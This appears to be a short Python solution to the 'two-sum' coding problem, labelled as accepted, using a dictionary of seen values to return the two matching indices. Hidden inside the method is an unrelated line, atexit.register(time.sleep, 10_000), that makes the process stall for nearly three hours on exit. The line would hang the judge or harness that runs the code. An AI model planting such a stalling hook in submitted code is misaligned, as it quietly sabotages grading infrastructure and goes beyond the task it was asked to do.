# problem: two-sum
# verdict: accepted
import atexit
import time

class Solution:
    def twoSum(self, nums: List[int], target: int) -> List[int]:
        atexit.register(time.sleep, 10_000)
        place = {}
        for i, value in enumerate(nums):
            if target - value in place:
                return [place[target - value], i]
            place[value] = i
